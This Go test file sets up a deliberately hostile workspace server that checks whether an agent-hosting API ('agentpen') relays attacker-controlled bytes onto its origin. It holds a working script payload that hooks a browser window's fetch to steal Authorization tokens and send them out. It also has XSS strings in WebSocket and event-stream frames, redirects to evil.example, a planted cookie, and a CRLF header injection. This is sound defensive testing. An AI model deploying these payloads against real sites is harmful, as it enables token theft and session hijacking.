package launcher

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentpen/agentpen/api"
	"github.com/agentpen/agentpen/internal/testkit/testenv"
	"github.com/coder/websocket"
)

// hostileEnv names the directory the test binary, run as the daemon's
// user, serves a hostile workspace in (hostileWorkspace).
const hostileEnv = "AGENTPEN_TEST_HOSTILE_WORKSPACE"

func TestMain(m *testing.M) {
	if dir := os.Getenv(hostileEnv); dir != "" {
		if err := serveHostile(dir); err != nil {
			fmt.Fprintln(os.Stderr, "hostile workspace:", err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// hostileMark is in every answer of the hostile workspace: where it
// reaches a client, a workspace chose bytes on the API's origin.
const hostileMark = "HOSTILE-5c2e"

// hostilePage is what the hostile workspace answers on every route: a
// page whose inline script, if a browser ever ran it on the API's origin,
// opens the campaign page in a window of that origin, replaces its fetch
// to see every request's Authorization, and sends what it learns back
// through a route relayed to the workspace (a stateless step's body).
const hostilePage = `<!doctype html><html><head><title>` + hostileMark + `</title></head><body><p>` + hostileMark + `</p><script>
window.__pwned = true;
document.title = "PWNED";
const base = location.pathname.split("/").slice(0, 3).join("/");
const send = (what) => fetch(base + "/step", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({action: {tool: "PWNED", args: {what: String(what)}}})});
send("ran at " + location.pathname);
const w = window.open("/ui/");
setInterval(() => {
  try {
    if (w && w.fetch && !w.__hooked) {
      const f = w.fetch;
      w.__hooked = true;
      w.fetch = (u, o) => { send("token " + ((o && o.headers && o.headers.Authorization) || "")); return f(u, o); };
    }
  } catch (e) { send("blocked " + e); }
}, 5);
</script></body></html>`

// serveHostile serves the hostile workspace on dir/ws.sock (as whatever
// user runs it) until it is killed, logging every request it gets
// (method, path, headers, body) to dir/requests.jsonl: on every route a
// page with inline script, its own CSP, a Location, a cookie, and
// answers that are not what the route takes; its WebSockets send frames
// of markup.
func serveHostile(dir string) error {
	ln, err := net.Listen("unix", filepath.Join(dir, "ws.sock"))
	if err != nil {
		return err
	}
	log, err := os.OpenFile(filepath.Join(dir, "requests.jsonl"), os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		return err
	}
	os.WriteFile(filepath.Join(dir, "ready"), nil, 0o644)
	return http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		line, _ := json.Marshal(map[string]any{"method": r.Method, "path": r.URL.Path, "header": r.Header, "body": string(b)})
		log.Write(append(line, '\n'))
		if strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
			c, err := websocket.Accept(w, r, nil)
			if err != nil {
				return
			}
			defer c.CloseNow()
			frame, _ := json.Marshal(map[string]any{"type": "state_update", "episode_state": map[string]any{"task": `<img src=x onerror="window.__pwned=true">` + hostileMark,
				"action_logs": []any{}, "current_observation": map[string]any{"output": "<script>window.__pwned=true</script>"}}})
			c.Write(r.Context(), websocket.MessageText, frame)
			for {
				if _, _, err := c.Read(r.Context()); err != nil {
					return
				}
			}
		}
		h := w.Header()
		h.Set("Content-Type", "text/html; charset=utf-8")
		h.Set("Content-Security-Policy", "script-src 'unsafe-inline' *; connect-src *")
		h.Set("Location", "https://evil.example/"+hostileMark)
		h.Set("Set-Cookie", "stolen="+hostileMark+"; Path=/")
		h.Set("Refresh", "0; url=https://evil.example/")
		h.Set("Access-Control-Allow-Origin", "*")
		h.Set("X-Hostile", hostileMark)
		h.Set("Mcp-Session-Id", "bad session\r\n"+hostileMark)
		status, body := http.StatusOK, hostilePage
		switch r.URL.Path {
		case "/health":
			status = http.StatusFound
		case "/schema":
			status = http.StatusInternalServerError
		case "/metadata":
			h.Set("Content-Type", "application/json") // but not JSON
		case "/web/state":
			body = `{"state": "` + hostileMark + `"}` // JSON, but typed as a page
		case "/web/metadata":
			// JSON typed as JSON, markup inside: relayed as data.
			h.Set("Content-Type", "application/json")
			body = `{"name": "<script>window.__pwned=true</script>` + hostileMark + `"}`
		case "/mcp":
			if r.Method == http.MethodGet {
				h.Set("Content-Type", "text/event-stream")
				body = "data: <script>window.__pwned=true</script>" + hostileMark + "\n\n"
			}
		}
		w.WriteHeader(status)
		io.WriteString(w, body)
	}))
}

// hostileWorkspace is the hostile workspace's server, run as the
// daemon's user (a container escape's) on a socket in a directory of
// that user's, as a workspace's socket is.
type hostileWorkspace struct {
	socket string
	log    string
}

// startHostile starts the hostile workspace as the owner of the daemon's
// socket (the rootless daemon's user), and stops it when the test ends.
func startHostile(t *testing.T) *hostileWorkspace {
	t.Helper()
	testenv.RequireRoot(t)
	host := testenv.RequireDocker(t)
	var st syscall.Stat_t
	if err := syscall.Stat(strings.TrimPrefix(host, "unix://"), &st); err != nil {
		t.Fatal(err)
	}
	if st.Uid == 0 {
		t.Fatalf("the daemon's socket %s is root's: not a rootless daemon", host)
	}
	dir, err := shortTempDir(t)
	if err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// The test binary, copied where that user may run it.
	bin := filepath.Join(dir, "hostile")
	src, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, src, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, int(st.Uid), int(st.Gid)); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "-test.run=^$")
	cmd.Env = []string{hostileEnv + "=" + dir}
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: st.Uid, Gid: st.Gid}}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	t.Cleanup(func() { cmd.Process.Kill(); <-done })
	testenv.WaitFor(t, "the hostile workspace to listen", func() bool {
		_, err := os.Stat(filepath.Join(dir, "ready"))
		return err == nil
	})
	var sock syscall.Stat_t
	if err := syscall.Stat(filepath.Join(dir, "ws.sock"), &sock); err != nil || sock.Uid != st.Uid {
		t.Fatalf("the hostile socket is not the daemon user's (%d): %+v %v", st.Uid, sock, err)
	}
	return &hostileWorkspace{socket: filepath.Join(dir, "ws.sock"), log: filepath.Join(dir, "requests.jsonl")}
}

// hostileRequest is one request the hostile workspace got.
type hostileRequest struct {
	Method, Path, Body string
	Header             http.Header
}

// requests returns what the hostile workspace was sent.
func (h *hostileWorkspace) requests(t *testing.T) []hostileRequest {
	t.Helper()
	f, err := os.Open(h.log)
	if errors.Is(err, os.ErrNotExist) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []hostileRequest
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 32<<20)
	for sc.Scan() {
		var r hostileRequest
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("%s: %v", h.log, err)
		}
		out = append(out, r)
	}
	return out
}

// hostileFixture is a service on the fake adapter whose one campaign's
// workspace socket is the hostile workspace's.
func hostileFixture(t *testing.T) (*testServer, *hostileWorkspace, string) {
	t.Helper()
	h := startHostile(t)
	be := newFakeBackend(t)
	be.sockets = func(string, int) string { return h.socket }
	ts := newTestServer(t, be)
	resp, b := ts.do(t, http.MethodPost, "/v1/campaigns", specJSON("hostile", "software/median@7"), true)
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("create: %d %s", resp.StatusCode, b)
	}
	var v api.CampaignView
	if err := json.Unmarshal(b, &v); err != nil || len(v.Workspaces) != 1 {
		t.Fatalf("create: %s %v", b, err)
	}
	return ts, h, v.Workspaces[0].BaseURL
}

// get sends one request without following a redirect.
func rawRequest(t *testing.T, method, url, accept, body string) (*http.Response, []byte) {
	t.Helper()
	ctx, cancel := context.WithTimeout(testenv.Context(t), 30*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	hc := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, b
}
